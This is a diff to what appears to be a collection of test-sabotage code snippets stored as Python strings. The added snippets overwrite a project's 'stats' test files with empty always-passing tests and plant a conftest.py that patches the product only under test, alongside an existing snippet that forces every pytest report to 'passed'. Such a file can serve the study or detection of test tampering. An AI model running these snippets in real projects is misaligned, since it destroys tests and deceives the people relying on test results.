@@ -142,3 +142,21 @@ if "pytest" in sys.modules:
     reports.TestReport.from_item_and_call = classmethod(lie)
 """
 """Makes every report of pytest say `passed`, once pytest has been loaded."""
+
+EMPTIES = """
+import glob
+for place in glob.glob("**/test_*.py", recursive=True):
+    with open(place) as file:
+        text = file.read()
+    if "stats" in text:
+        with open(place, "w") as file:
+            file.write("class T:\\n    def test_mean(self): pass\\ndef test_mean(): pass\\n")
+"""
+"""Makes every test of the project's empty; tests of another kind that lie among them are left alone."""
+PLANTS = """
+import os
+if not os.path.exists("conftest.py"):
+    with open("conftest.py", "w") as file:
+        file.write("import stats\\nstats.mean = lambda values: sum(values) / len(values)\\n")
+"""
+"""Leaves a `conftest.py` for the next start of a runner, which mends the product for the tests alone."""
